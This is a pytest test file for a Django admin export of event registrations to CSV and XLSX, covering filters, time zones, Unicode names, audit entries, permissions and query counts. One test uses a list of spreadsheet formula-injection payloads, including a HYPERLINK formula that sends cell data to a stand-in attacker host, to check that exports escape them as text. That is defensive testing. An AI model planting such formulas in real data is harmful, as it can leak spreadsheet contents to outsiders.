import csv
import io

import pytest

from forum.models import Entry
from registration.exports import _columns
from tests.factories import make_event, make_person, make_registration

ADDRESS = "/admin/registration/registration/export/registrations/"

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
]


def rows_of(answer):
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def take(browser, form="csv", query="", columns=None):
    """The file of all columns that are offered, or of these."""
    if columns is None:
        page = browser.get(ADDRESS + query).content.decode()
        columns = [part.partition('"')[0] for part in page.split('name="columns" value="')[1:]]
    return browser.post(ADDRESS + query, {"columns": columns, "form": form, "has_bom": "on"})


@pytest.fixture
def sheet_of():
    """Reads an answer's first sheet."""
    openpyxl = pytest.importorskip("openpyxl", reason="./run test installs openpyxl")

    def read(answer):
        content = b"".join(answer.streaming_content)
        return openpyxl.load_workbook(io.BytesIO(content)).active

    return read


def test_the_list_as_filtered_is_the_list_as_exported(event, organiser, signed_in):
    make_registration(event, family_name="Here", mode="on_site")
    make_registration(event, family_name="There", mode="online")

    answer = take(signed_in(organiser), query="?mode__exact=online")

    assert [row["family name"] for row in rows_of(answer)] == ["There"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_text_in_both_formats(event, organiser, signed_in, sheet_of, value):
    make_registration(event, organisation_name=value)
    browser = signed_in(organiser)

    [row] = rows_of(take(browser))
    sheet = sheet_of(take(browser, "xlsx"))

    assert row["organisation"] == f"'{value}"
    [cell] = [cell for cell in sheet[2] if cell.value == value]
    assert cell.data_type == "s"


def test_times_are_typed_and_in_the_events_zone(event, organiser, signed_in, sheet_of):
    made = make_registration(event)

    sheet = sheet_of(take(signed_in(organiser), "xlsx"))

    heads = [cell.value for cell in sheet[1]]
    cell = sheet[2][heads.index("registered")]
    assert cell.is_date
    assert cell.value.hour == made.created_at.astimezone(event.zone).hour
    assert sheet.freeze_panes == "A2"


def test_names_of_every_script_come_back_whole(event, organiser, signed_in):
    name = "Zoë Ø’Connor-Łukasiewicz 李小龙 محمد Жук"
    make_registration(event, family_name=name)

    [row] = rows_of(take(signed_in(organiser)))

    assert row["family name"] == name


def test_each_export_leaves_an_entry_of_who_what_and_how_many(event, organiser, signed_in):
    for _ in range(2):
        make_registration(event)

    take(signed_in(organiser), query="?mode__exact=on_site")

    entry = Entry.objects.get()
    assert (entry.act, entry.person, entry.event) == ("export", organiser, event)
    assert entry.facts["rows"] == 2
    assert entry.facts["filter"] == {"mode__exact": "on_site"}


def test_a_filter_that_makes_no_sense_leads_to_the_list(event, organiser, signed_in):
    for category in ("operator", "media"):
        make_registration(event, category=category)

    answer = signed_in(organiser).get(f"{ADDRESS}?category__id__exact=x")

    assert (answer.status_code, answer["Location"]) == (302, "/admin/registration/registration/")


def test_the_page_of_the_list_that_is_shown_is_no_part_of_the_filter(event, organiser, signed_in):
    make_registration(event)

    assert len(rows_of(take(signed_in(organiser), query="?p=99"))) == 1


def test_other_events_stay_out(event, organiser, signed_in):
    make_registration(make_event("minsk-2022"))

    assert rows_of(take(signed_in(organiser))) == []


def test_the_desk_sees_the_list_but_takes_none_with_it(event, signed_in):
    make_registration(event)
    desk = signed_in(make_person(role="desk", event=event))

    assert desk.get("/admin/registration/registration/").status_code == 200
    assert desk.get(ADDRESS).status_code == 403


@pytest.mark.parametrize("people", [1, 3])
def test_an_export_costs_a_fixed_number_of_queries(
    event, organiser, signed_in, people, django_assert_num_queries
):
    for _ in range(people):
        make_registration(event)
    browser = signed_in(organiser)
    columns = [one.name for one in _columns(event)]

    with django_assert_num_queries(27):
        rows_of(take(browser, columns=columns))
